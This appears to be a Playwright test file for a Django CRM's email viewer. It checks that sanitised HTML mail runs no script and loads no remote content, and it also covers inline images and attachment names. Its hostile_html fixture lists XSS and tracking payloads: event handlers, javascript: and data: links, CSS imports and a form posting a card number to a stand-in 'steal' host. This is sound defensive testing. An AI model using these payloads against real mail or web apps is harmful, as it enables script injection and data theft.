"""Hostile and real HTML in Debian's Chromium: no script runs, nothing loads from elsewhere.

Chromium resolves every host name except localhost to a recording server
on loopback (--host-resolver-rules), so a request meant for a remote host
is seen there, with its Host header, and never leaves the machine.
Playwright does not report requests made by the sandboxed srcdoc frame
(it has an opaque origin), which is why the recording server is the
witness; the requests Playwright does see are checked too.
"""

import os
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from django.urls import reverse

from crm.models import Contact
from crm.tests.helpers import make_account
from emailsync.models import Message
from tests.support.corpus import corpus_files
from tests.support.recorder import RecordingServer

from .stored import store_raw

CHROMIUM = Path("/usr/bin/chromium")
LOOPBACK_HOSTS = {"127.0.0.1", "localhost"}

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]


def page_requests(recorded):
    """Drop Chromium's own update checks, which no page asks for, from what the recorder saw."""
    return [item for item in recorded if not is_browser_service(*item)]


def is_browser_service(method, host, path):
    return method == "POST" and host.endswith(".googleapis.com") and path.startswith("/service/update2/")


def hostile_html(port):
    """Return HTML that tries every way we know to run script or reach another host."""
    beacon = f"http://127.0.0.1:{port}"
    return f"""
<p id="greeting">Hola Ana</p>
<script>new Image().src = "{beacon}/script-ran";</script>
<img src="x" onerror="new Image().src='{beacon}/onerror-ran'">
<body onload="new Image().src='{beacon}/onload-ran'">
<a id="js-link" href="javascript:new Image().src='{beacon}/javascript-link-ran'">javascript link</a>
<a id="data-link" href="data:text/html,&lt;script&gt;new Image().src='{beacon}/data-link-ran'&lt;/script&gt;">data link</a>
<div style="width: expression(alert(1)); background: url(http://css.remote.example/bg.gif)">css</div>
<div style="background-image: url('http://css.remote.example/bg2.gif')">css 2</div>
<style>@import url(http://css.remote.example/import.css); p {{ background: url(http://css.remote.example/p.gif) }}</style>
<link rel="stylesheet" href="http://css.remote.example/sheet.css">
<svg onload="new Image().src='{beacon}/svg-onload-ran'"><script>new Image().src="{beacon}/svg-script-ran";</script>
  <image href="http://svg.remote.example/image.png"></image></svg>
<form action="http://forms.remote.example/steal" method="post"><input name="card" value="4111">
  <button id="send" type="submit">Enviar</button></form>
<iframe src="http://frames.remote.example/frame"></iframe>
<object data="http://objects.remote.example/object.swf"></object>
<embed src="http://objects.remote.example/embed.swf">
<video poster="http://media.remote.example/poster.jpg" src="http://media.remote.example/video.mp4"></video>
<audio src="http://media.remote.example/audio.mp3"></audio>
<table background="http://tracker.remote.example/table.gif"><tr><td>t</td></tr></table>
<img srcset="http://tracker.remote.example/srcset.gif 1x">
<meta http-equiv="refresh" content="0;url=http://meta.remote.example/">
<base href="http://base.remote.example/">
<img id="remote" src="http://tracker.remote.example/open.gif">
<img id="local" src="{beacon}/local-pixel.gif">
"""


@pytest.fixture
def recorder():
    server = RecordingServer().start()
    yield server
    server.stop()


@pytest.fixture
def hostile_message_url(live_server, owner, recorder):
    """Store the hostile message, as a Contact's, and return its page URL (before Playwright starts)."""
    owner.set_password("secret-owner")
    owner.save()
    Contact.objects.create(owner=owner, last_name="Moreno", email="lucia@acme.example")
    raw = (
        "From: Lucia <lucia@acme.example>\r\nTo: owner@crm.example\r\nSubject: Hostil\r\n"
        "Message-ID: <hostil@acme.example>\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
        + hostile_html(recorder.port)
    ).encode()
    message = store_raw(make_account(owner), raw)
    return live_server.url + reverse("emailsync:message_detail", args=[message.pk])


@pytest.fixture
def corpus_message_urls(live_server, owner):
    """Store every corpus message that has an HTML body; return their page URLs."""
    owner.set_password("secret-owner")
    owner.save()
    account = make_account(owner)
    for path in corpus_files():
        store_raw(account, path.read_bytes())
    messages = Message.objects.filter(account=account).exclude(html_body="").order_by("pk")
    return [live_server.url + reverse("emailsync:message_detail", args=[pk]) for pk in messages.values_list("pk", flat=True)]


def open_browser(playwright, recorder):
    if not CHROMIUM.exists():
        reason = "Chromium is missing: install Debian's chromium package."
        if os.environ.get("CI") == "true":
            pytest.fail(reason)
        pytest.skip(reason)
    return playwright.chromium.launch(
        executable_path=str(CHROMIUM), headless=True,
        args=["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update",
              "--disable-sync", "--no-first-run",
              f"--host-resolver-rules=MAP * 127.0.0.1:{recorder.port}, EXCLUDE localhost"],
    )


class Watch:
    """Every request Playwright reports, and every dialog a script opened."""

    def __init__(self, context):
        self.requests = []
        self.dialogs = []
        context.on("request", lambda request: self.requests.append(request.url))
        context.on("page", lambda page: page.on("dialog", self.on_dialog))

    def on_dialog(self, dialog):
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def remote_requests(self):
        return [url for url in self.requests if urlsplit(url).hostname not in LOOPBACK_HOSTS]


def log_in(page, url):
    page.goto(url)
    page.fill("#id_username", "owner")
    page.fill("#id_password", "secret-owner")
    page.click("main form button[type=submit]")
    page.wait_for_url(url)


def settle(page):
    page.wait_for_load_state("networkidle")
    page.wait_for_timeout(300)


def test_browser_hostile_html_runs_nothing_and_loads_nothing(hostile_message_url, recorder):
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        browser = open_browser(playwright, recorder)
        context = browser.new_context(locale="es-ES")
        watch = Watch(context)
        page = context.new_page()
        log_in(page, hostile_message_url)
        frame = page.frame_locator("iframe.message-html-frame")
        greeting = frame.locator("p").first.inner_text()
        # The sanitiser drops ids, so the links are found by their text.
        for text in ("javascript link", "data link"):
            frame.get_by_text(text).click(timeout=2000)
        settle(page)
        before_click = page_requests(recorder.snapshot())

        page.get_by_role("link", name="Mostrar imágenes").click()
        settle(page)
        after_click = page_requests(recorder.snapshot())
        browser.close()

    ran = [path for _method, _host, path in after_click if path.endswith("-ran")]
    assert greeting == "Hola Ana"
    assert before_click == []
    assert watch.remote_requests() == []
    assert watch.dialogs == []
    assert ran == []
    assert ("GET", f"127.0.0.1:{recorder.port}", "/local-pixel.gif") in after_click
    assert ("GET", "tracker.remote.example", "/open.gif") in after_click


def test_browser_corpus_html_loads_nothing_remote(corpus_message_urls, recorder):
    """Every corpus message with HTML renders without any request to a remote host or any dialog."""
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        browser = open_browser(playwright, recorder)
        context = browser.new_context(locale="es-ES")
        watch = Watch(context)
        page = context.new_page()
        page.set_default_timeout(15_000)
        log_in(page, corpus_message_urls[0])
        for url in corpus_message_urls:
            page.goto(url)
            page.wait_for_load_state("load")
        settle(page)
        seen = page_requests(recorder.snapshot())
        browser.close()

    assert len(corpus_message_urls) > 100
    assert seen == []
    assert watch.remote_requests() == []
    assert watch.dialogs == []


@pytest.fixture
def inline_image_url(live_server, owner):
    owner.set_password("secret-owner")
    owner.save()
    path = next(path for path in corpus_files() if path.name == "nodemailer__nodemailer.eml")
    message = store_raw(make_account(owner), path.read_bytes())
    return live_server.url + reverse("emailsync:message_detail", args=[message.pk])


def test_browser_inline_image_shows_from_message(inline_image_url, recorder):
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        browser = open_browser(playwright, recorder)
        page = browser.new_page(locale="es-ES")
        log_in(page, inline_image_url)
        settle(page)
        image = page.frame_locator("iframe.message-html-frame").locator("img").first
        width = image.evaluate("element => element.naturalWidth")
        browser.close()

    assert width == 16


DOWNLOADS = [
    ("djmailbox__message_with_koi8r_filename_attachments.eml", "3", "Ведомости.pdf"),
    ("imaptools__japanese_attachment_long_name.eml", "1", "かきくけこ" * 5 + ".txt"),
    ("nodemailer__nodemailer.eml", "1.3.3", "nyan cat ✔.gif"),
    ("mikelmail__attachment_nonascii_filename.eml", "2", "ciële.txt"),
]


@pytest.fixture
def download_urls(live_server, owner):
    owner.set_password("secret-owner")
    owner.save()
    account = make_account(owner)
    files = {path.name: path for path in corpus_files()}
    urls = []
    for name, part, expected in DOWNLOADS:
        message = store_raw(account, files[name].read_bytes())
        urls.append((live_server.url + reverse("emailsync:message_attachment", args=[message.pk, part]), expected))
    return live_server.url + reverse("emailsync:message_detail", args=[message.pk]), urls


def test_browser_downloads_keep_attachment_names(download_urls, recorder):
    from playwright.sync_api import sync_playwright

    login_url, urls = download_urls
    with sync_playwright() as playwright:
        browser = open_browser(playwright, recorder)
        page = browser.new_page(locale="es-ES", accept_downloads=True)
        log_in(page, login_url)
        names = []
        for url, _expected in urls:
            with page.expect_download() as download:
                page.evaluate("url => { const a = document.createElement('a'); a.href = url; document.body.append(a); a.click(); }", url)
            names.append(download.value.suggested_filename)
        browser.close()

    assert names == [expected for _url, expected in urls]
